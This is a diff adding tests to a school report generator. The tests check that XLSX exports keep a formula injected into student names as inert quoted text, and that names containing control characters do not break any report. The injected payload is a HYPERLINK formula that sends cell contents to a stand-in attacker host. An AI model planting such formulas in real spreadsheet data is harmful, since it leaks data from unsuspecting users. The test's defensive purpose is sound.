@@ -206,3 +206,63 @@ async def test_report_parameter_errors(session: AsyncSession, filled: SchoolWorl
         await build_report(
             session, admin, "attendance_month", {"class": "7А", "month": "13/13"}, "pdf"
         )
+
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'
+# The reports that list students by name.
+NAMED = (
+    "attendance_month",
+    "attendance_summary",
+    "class_results",
+    "class_teacher_report",
+    "family_weekly",
+    "journal_pages",
+    "marks_summary",
+)
+
+
+async def _build_all(session: AsyncSession, world: SchoolWorld) -> dict[str, bytes]:
+    out = {}
+    for kind, (params, _, _) in CASES.items():
+        params = dict(params)
+        if kind == "family_weekly":
+            params["student_id"] = world.students[0].id
+        report = await build_report(session, world.actors["admin"], kind, params, "xlsx")
+        out[kind] = report.data
+    return out
+
+
+async def test_a_formula_in_a_name_stays_text_in_every_xlsx_report(
+    session: AsyncSession, filled: SchoolWorld
+) -> None:
+    for student in filled.students:
+        student.last_name = EVIL
+    await session.commit()
+    for kind, data in (await _build_all(session, filled)).items():
+        _, wb = xlsx_text(data)
+        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+        assert not [c.coordinate for c in cells if c.data_type == "f"], kind
+        shown = [c for c in cells if isinstance(c.value, str) and EVIL in c.value]
+        if kind in NAMED:
+            assert shown, kind
+        assert all(c.data_type == "s" for c in shown), kind
+        assert all(c.quotePrefix for c in shown if c.value.startswith(EVIL)), kind
+
+
+async def test_a_control_character_in_a_name_breaks_no_report(
+    session: AsyncSession, filled: SchoolWorld
+) -> None:
+    """Data saved before imports refused control characters still makes every report."""
+    # PostgreSQL cannot store a NUL at all; SQLite can, and XLSX refuses both.
+    ctrl = "\x00" if session.get_bind().dialect.name == "sqlite" else "\x01"
+    for student in filled.students:
+        student.first_name = f"Ан{ctrl}на\x1b"
+    await session.commit()
+    for kind, data in (await _build_all(session, filled)).items():
+        text, _ = xlsx_text(data)
+        if kind in NAMED:
+            assert "Анна" in text, kind
+        assert ctrl not in text, kind
+    params = dict(CASES["class_teacher_report"][0])
+    pdf = await build_report(session, filled.actors["admin"], "class_teacher_report", params, "pdf")
+    assert pdf.data.startswith(b"%PDF")
